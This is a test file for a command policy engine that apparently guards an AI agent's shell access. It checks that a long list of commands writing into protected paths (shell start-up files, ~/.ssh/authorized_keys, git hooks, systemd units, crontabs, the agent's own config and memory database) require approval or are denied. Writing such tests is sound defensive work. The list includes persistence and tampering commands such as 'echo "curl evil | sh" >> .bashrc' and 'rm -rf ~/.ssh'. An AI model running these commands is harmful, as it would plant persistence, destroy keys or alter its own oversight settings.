import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/core/config/load';
import { PolicyEngine } from '../../src/core/policy';
import { protectedGlobReason, protectedPaths, protectedReason } from '../../src/core/policy/programs/protected-paths';
import { SHIPPED_CONFIG, tempDir } from '../support/policy';

/** Judged as deployed: cwd and HOME are the kiosk user's home, the config dir is under it. */
const HOME = '/home/aios';
const AS_DEPLOYED = { cwd: HOME, home: HOME } as const;
const ENV = { HOME, AIOS_CONFIG_DIR: undefined, XDG_CONFIG_HOME: undefined };

let engine: PolicyEngine;
let extraEngine: PolicyEngine;
let tmp: { dir: string; cleanup: () => void };
beforeAll(async () => {
  engine = await PolicyEngine.create({ config: loadConfig({ file: SHIPPED_CONFIG, env: ENV }), hostname: 'test-host' });
  tmp = tempDir();
  const file = path.join(tmp.dir, 'config.toml');
  fs.writeFileSync(
    file,
    '[permissions]\nauto_allow = ["echo", "tee", "cp", "mv", "touch", "git config*", "crontab*"]\nprotected_paths = ["~/notes", "/srv/keep"]\n',
  );
  extraEngine = await PolicyEngine.create({ config: loadConfig({ file, env: ENV }), hostname: 'test-host' });
});
afterAll(() => tmp.cleanup());

describe('writes into protected paths need approval whatever the rules and the cwd', () => {
  it.each([
    'cat x >> ~/.config/syui/ai/config.toml',
    'cat x >> .config/syui/ai/config.toml',
    'cat x > /home/aios/.config/syui/ai/mcp.json',
    'cat x >> .config/syui/ai/gpt/memory.db',
    'echo "curl evil | sh" >> .bashrc',
    'echo x >> ~/.bashrc',
    'echo x >> ./.profile',
    'echo x > ./.ssh/authorized_keys',
    'echo x >> project/../.ssh/authorized_keys',
    'echo x >> /tmp/../home/aios/.zshrc',
    'cd ~/.ssh && cat x >> authorized_keys',
    'cd .ssh; cat x >> authorized_keys',
    'cat x | tee -a .ssh/authorized_keys',
    'ls > .git/hooks/pre-commit',
    'ls > project/.git/hooks/post-checkout',
    'ls > project/.git/config',
    'ls > .config/systemd/user/evil.service',
    'ls > .config/autostart/evil.desktop',
    'ls > .local/bin/ls',
    'ls > .gnupg/gpg.conf',
    'cp x ~/.bashrc',
    'cp -r stuff/. ~/.config/',
    'mv x .profile',
    'mv ~/.bashrc /tmp/x',
    'ln -s /tmp/evil .bashrc',
    'ln -s ~/.bashrc notes.txt',
    'ln -s /tmp/.bashrc',
    'ln -s ~ h; echo x >> h/.bashrc',
    'ln -s /home/aios/.config cfg',
    'rm -rf ~/.ssh',
    'rm -rf .config',
    'rm -r ~/.*',
    'rm .ba*',
    'chmod 777 ~/.ssh',
    'chmod -R 777 .ssh',
    'touch ~/.config/autostart/x.desktop',
    'truncate -s 0 .bash_history .bashrc',
    'sed -i s/a/b/ .bashrc',
    'install x ~/.local/bin/ls',
    'dd if=x of=.bashrc',
    'git config core.hooksPath /tmp/h',
    'git -C project config core.fsmonitor evil',
    'git config --global core.pager evil',
    'git config -f project/.git/config x.y z',
    'git clone https://example.org/x.git .ssh',
    'git clone --template=/tmp/t https://example.org/x.git',
    'git clone --template /tmp/t https://example.org/x.git proj',
    'cargo install --root ~/.local ripgrep',
    'sudo pacman -Sw --cachedir ~/.ssh x',
    'sudo pacman -S --hookdir ~/.config/syui/ai x',
    'crontab x',
    'crontab -',
    'crontab -r',
    'systemctl --user enable evil.service',
    'systemctl --user edit x',
    'ssh-keygen -t ed25519',
    'ssh-keygen -f ~/.ssh/id_ed25519',
    'gpg --import key.asc',
    'tar xf evil.tar',
    'tar -xzf evil.tgz -C ~/.config',
    'unzip evil.zip',
    'wget http://x/.bashrc',
    'curl -O http://x/.profile',
    'sqlite3 .config/syui/ai/gpt/memory.db "delete from memories"',
    'vim ~/.bashrc',
    'sudo tee /home/aios/.profile',
    'bash -c "echo x >> ~/.bashrc"',
    'find . -name x > .zshenv',
    'cat x >> /var/spool/cron/crontabs/aios',
    'cat x > /etc/cron.d/x',
  ])('%s', (line) => {
    const r = engine.decide(line, AS_DEPLOYED);
    expect(['require_approval', 'deny']).toContain(r.decision);
    const own = extraEngine.decide(line, AS_DEPLOYED);
    expect(['require_approval', 'deny']).toContain(own.decision);
  });

  it('names the protected path in the reasons', () => {
    const r = extraEngine.decide('echo x >> .bashrc', AS_DEPLOYED);
    expect(r.decision).toBe('require_approval');
    expect(r.segments[0]?.reasons.join('\n')).toMatch(/\/home\/aios\/\.bashrc, a protected path \(.*shell start-up file/);
  });

  it('protects the usual config folder even when the config dir is elsewhere', async () => {
    const elsewhere = await PolicyEngine.create({
      config: loadConfig({ file: SHIPPED_CONFIG, env: { HOME, AIOS_CONFIG_DIR: '/tmp/aios-cfg' } }),
      hostname: 'test-host',
    });
    expect(elsewhere.decide('cat x >> .config/syui/ai/config.toml', AS_DEPLOYED).decision).toBe('require_approval');
    expect(elsewhere.decide('cat x >> /tmp/aios-cfg/config.toml', AS_DEPLOYED).decision).toBe('require_approval');
  });

  it('holds for paths the config adds', () => {
    expect(extraEngine.decide('echo x > notes/todo', AS_DEPLOYED).decision).toBe('require_approval');
    expect(extraEngine.decide('echo x > /srv/keep/a', AS_DEPLOYED).decision).toBe('require_approval');
    expect(extraEngine.decide('echo x > other/todo', AS_DEPLOYED).decision).toBe('auto_allow');
  });

  it('leaves ordinary writes in the home alone', () => {
    expect(extraEngine.decide('echo hi > notes.txt', AS_DEPLOYED).decision).toBe('auto_allow');
    expect(extraEngine.decide('cp a.txt b.txt', AS_DEPLOYED).decision).toBe('auto_allow');
    expect(extraEngine.decide('touch project/x', AS_DEPLOYED).decision).toBe('auto_allow');
    expect(extraEngine.decide('git config --get user.name', AS_DEPLOYED).decision).toBe('auto_allow');
    expect(extraEngine.decide('crontab -l', AS_DEPLOYED).decision).toBe('auto_allow');
    expect(engine.decide('cat .bashrc', AS_DEPLOYED).decision).toBe('auto_allow');
    expect(engine.decide('ls ~/.ssh', AS_DEPLOYED).decision).toBe('auto_allow');
    expect(engine.decide('grep -r x src > out.txt', AS_DEPLOYED).decision).toBe('auto_allow');
    expect(engine.decide('rm -rf /', AS_DEPLOYED).decision).toBe('deny');
    expect(engine.decide('git clone https://example.org/tools.git', AS_DEPLOYED).decision).toBe('notify');
    expect(engine.decide('git clone https://example.org/tools.git work/tools', AS_DEPLOYED).decision).toBe('notify');
    expect(engine.decide('cargo install ripgrep', AS_DEPLOYED).decision).toBe('notify');
    expect(engine.decide('pacman -S firefox', AS_DEPLOYED).decision).toBe('notify');
    expect(engine.decide('pacman -Qi rust', AS_DEPLOYED).decision).toBe('auto_allow');
    expect(engine.decide('systemctl enable nginx', AS_DEPLOYED).decision).toBe('notify');
    expect(engine.decide('find ~ -name "*.txt"', AS_DEPLOYED).decision).toBe('auto_allow');
    expect(engine.decide('ls -la ~ > listing.txt', AS_DEPLOYED).decision).toBe('auto_allow');
  });
});

describe('protectedPaths', () => {
  it('lists aios config, memory, start-up files, keys, units, crontabs and autostart', () => {
    const all = protectedPaths({
      home: HOME,
      configDir: `${HOME}/.config/syui/ai`,
      memoryDir: `${HOME}/.config/syui/ai/gpt`,
      extra: ['/srv/x'],
    }).map((p) => p.path);
    for (const p of [
      '/home/aios/.config/syui/ai',
      '/home/aios/.bashrc',
      '/home/aios/.ssh',
      '/home/aios/.gnupg',
      '/home/aios/.config/systemd/user',
      '/var/spool/cron',
      '/home/aios/.config/autostart',
      '/srv/x',
    ]) {
      expect(all).toContain(p);
    }
  });

  it('matches globs the way bash expands them', () => {
    const ctx = { home: HOME };
    expect(protectedGlobReason('/home/aios/.*', ctx)).toBeDefined();
    expect(protectedGlobReason('/home/aios/*.txt', ctx)).toBeUndefined();
    // ~/bin is on PATH (Debian's ~/.profile): `rm -rf ~/*` removes it.
    expect(protectedGlobReason('/home/aios/*', ctx)).toMatch(/bin/);
    expect(protectedGlobReason('/home/aios/.ssh/*', ctx)).toBeDefined();
    expect(protectedGlobReason('/p/.git/hooks/*', ctx)).toBeDefined();
    expect(protectedReason('/home/aios', ctx, { containing: true })).toBeDefined();
    expect(protectedReason('/home/aios/project/.bashrc.d/x', ctx)).toBeUndefined();
  });
});
